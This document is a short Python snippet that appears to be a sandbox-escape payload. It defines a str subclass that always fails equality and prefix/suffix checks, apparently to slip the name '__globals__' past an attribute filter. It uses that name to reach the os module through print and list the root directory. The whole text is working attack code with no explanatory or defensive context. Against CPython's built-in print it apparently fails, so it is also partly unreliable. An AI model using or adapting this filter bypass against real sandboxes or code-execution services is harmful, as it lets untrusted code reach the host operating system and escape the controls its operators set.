class S(str):
    def startswith(self, *a):
        return False
    def endswith(self, *a):
        return False
    def __eq__(self, other):
        return False
    def __hash__(self):
        return 1
f = getattr(print, S("__globals__"))
print(f["os"].listdir("/"))
